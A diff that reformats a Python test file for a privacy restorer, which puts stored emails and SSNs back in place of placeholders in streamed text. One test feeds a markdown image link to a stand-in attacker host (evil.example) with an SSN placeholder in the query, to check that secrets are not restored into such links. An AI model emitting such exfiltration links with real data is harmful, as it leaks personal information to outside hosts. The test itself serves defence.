@@ -11,7 +11,6 @@ from hypothesis import strategies as st
 
 from aistrale.privacy.restore import Restorer
 from aistrale.privacy.vault import Vault
-
 from tests.privacy.rough import nasty, streamed, texts
 
 
@@ -41,7 +40,10 @@ vaults = make()
         ("[EMAIL_1] and [SSN 1]", "jo@example.com and 219-09-9998"),
         ("［［EMAIL_1］］ ［EMAIL＿1］ 【【EMAIL_1】】", "jo@example.com jo@example.com jo@example.com"),
         ("[[DRIVER_LICENSE_1]] [[DRIVER LICENSE 1]] [[driver\\_license\\_1]]", "D123 D123 D123"),
-        ("**[[EMAIL_1]]** \"[[EMAIL_1]]\" [[EMAIL_1]]'s [[SSN_1]]s", "**jo@example.com** \"jo@example.com\" jo@example.com's 219-09-9998s"),
+        (
+            '**[[EMAIL_1]]** "[[EMAIL_1]]" [[EMAIL_1]]\'s [[SSN_1]]s',
+            '**jo@example.com** "jo@example.com" jo@example.com\'s 219-09-9998s',
+        ),
         ("[[[EMAIL_1]]] [[[[EMAIL_1]]]]", "[jo@example.com] [[jo@example.com]]"),
         ("邮箱[EMAIL_1]。", "邮箱jo@example.com。"),
     ],
@@ -211,7 +213,9 @@ def test_pieces_make_no_difference(text: str, cuts: list[int], as_json: bool) ->
 
 
 @given(nasty, st.lists(st.integers(1, 9), min_size=1, max_size=5), st.booleans(), st.booleans())
-def test_pieces_make_no_difference_with_numbers_and_fakes(text: str, cuts: list[int], as_json: bool, links: bool) -> None:
+def test_pieces_make_no_difference_with_numbers_and_fakes(
+    text: str, cuts: list[int], as_json: bool, links: bool
+) -> None:
     vault = make()
     vault.placeholder("EMAIL_ADDRESS", "12345", number=True)
     vault.add_fake("PERSON", "Jane", "x 12")
@@ -256,7 +260,10 @@ def test_never_holds_more_than_the_longest_placeholder(text: str) -> None:
 
 def test_links_are_followed_across_pieces() -> None:
     stream = Restorer(vaults).stream()
-    assert stream.feed("![x](ht") + stream.feed("tps://evil.example/") + stream.feed("?d=[[SSN") == "![x](https://evil.example/?d="
+    assert (
+        stream.feed("![x](ht") + stream.feed("tps://evil.example/") + stream.feed("?d=[[SSN")
+        == "![x](https://evil.example/?d="
+    )
     assert stream.feed("_1]]) [[SSN_1]]") + stream.finish() == "[[SSN_1]]) 219-09-9998"
 
 
@@ -280,7 +287,24 @@ def test_fakes_are_restored_the_longest_first_and_as_whole_words() -> None:
 
 
 @pytest.mark.parametrize(
-    "piece", ["[", "[[", "[[A", "\\", "\\[", "[EMAIL_", "[ ", '"', '"[', "[[EMAIL_1]]", "https://a ", "](", "［", "[[EMAIL_1", "\\u00"]
+    "piece",
+    [
+        "[",
+        "[[",
+        "[[A",
+        "\\",
+        "\\[",
+        "[EMAIL_",
+        "[ ",
+        '"',
+        '"[',
+        "[[EMAIL_1]]",
+        "https://a ",
+        "](",
+        "［",
+        "[[EMAIL_1",
+        "\\u00",
+    ],
 )
 @pytest.mark.parametrize("as_json", [False, True])
 def test_takes_time_in_proportion(piece: str, as_json: bool) -> None:
